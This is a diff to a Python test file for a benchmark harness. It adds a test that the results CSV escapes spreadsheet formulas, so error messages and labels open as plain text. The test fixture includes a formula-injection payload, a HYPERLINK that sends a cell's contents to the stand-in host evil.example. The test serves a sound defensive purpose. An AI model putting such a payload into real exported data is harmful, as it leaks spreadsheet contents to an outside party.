@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import math
 import statistics
@@ -16,7 +18,7 @@ from pipeline.bench.harness import BenchSettings, Contender, ask, generated_tabl
 from pipeline.bench.model_questions import MODEL_QUESTIONS
 from pipeline.bench.peers import PEER_BUILDERS
 from pipeline.bench.questions import GROUPBY_QUESTIONS, JOIN_QUESTIONS, Answer, Workspace
-from pipeline.bench.results import FAILED, OK, SKIPPED, load_results
+from pipeline.bench.results import ERROR, FAILED, OK, SKIPPED, BenchResults, Record, load_results
 from pipeline.bench.suites import SUITES
 from pipeline.engines import CPU, GPU, get_engine
 from pipeline.errors import DataError
@@ -162,6 +164,18 @@ def test_a_run_writes_results_that_load_back(tmp_path):
     assert set(back.environment["versions"]) >= {"pandas", "numpy"}
     csv = results.to_csv().splitlines()
     assert csv[0].startswith("suite,question,label,engine") and len(csv) == len(results.records) + 1
+
+
+def test_the_results_csv_opens_as_data_in_a_spreadsheet():
+    """`--csv` writes `to_csv`: an engine's error message (which may quote the data) is text, times stay numbers."""
+    link = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    records = [
+        Record("groupby", "q1", "sum v1 by id1", CPU, "CPU (pandas)", 1_000, ERROR, message=link),
+        Record("groupby", "q2", "-2+3", CPU, "CPU (pandas)", 1_000, OK, median_s=0.25, min_s=0.125, max_s=0.5),
+    ]
+    rows = list(csv.DictReader(io.StringIO(BenchResults({}, {}, records).to_csv(), newline="")))
+    assert rows[0]["message"] == "'" + link and rows[1]["label"] == "'-2+3"
+    assert (rows[1]["median_s"], rows[1]["rows"]) == ("0.25", "1000")
 
 
 @pytest.mark.parametrize(
